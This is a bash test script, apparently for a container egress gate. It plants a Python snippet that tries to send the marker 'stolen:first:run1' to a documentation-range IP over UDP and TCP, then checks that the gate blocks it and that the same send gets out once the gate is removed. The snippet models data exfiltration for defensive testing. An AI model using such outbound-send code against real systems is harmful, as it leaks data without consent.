#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# Gated between `create` and `start`, a container gets nothing out, not by its first instruction either: it
# is the attack itself that it starts with.
. "$(dirname "$0")/lib.sh"

cat >"$SCRATCH/first.py" <<'PYTHON'
import socket, sys, time
for _ in range(50):
    for kind, port in ((socket.SOCK_DGRAM, 9000), (socket.SOCK_STREAM, 443)):
        try:
            sock = socket.socket(socket.AF_INET, kind)
            sock.setblocking(False)
            sock.connect(("203.0.113.61", port))
            sock.send(b"stolen:first:run1;")
        except OSError:
            pass
    time.sleep(0.01)
for tried in sys.argv[1:]:
    open(tried, "w").close()
    time.sleep(1000)
PYTHON
# shellcheck disable=SC2034 # the library's
FIRST=(python3 "$SCRATCH/first.py" "$SCRATCH/tried")
for RUNTIME in runc crun; do
	command -v "$RUNTIME" >/dev/null && break
done
box "$RUNTIME" tcp/443 udp/9000
next_run
gate
run_box
wait_for 10 test -e "$SCRATCH/tried" || fail "its first instructions did not come to an end"
nothing_arrived
recorded connect4 destination

# Without a gate the same gets out: it was no matter of a link that was not up yet.
kvgate detach "$CG" >/dev/null
gated python3 "$SCRATCH/first.py" >/dev/null 2>&1 &
wait_for 5 arrived 'stolen:first:run1' || fail "it gets nothing out without a gate either"
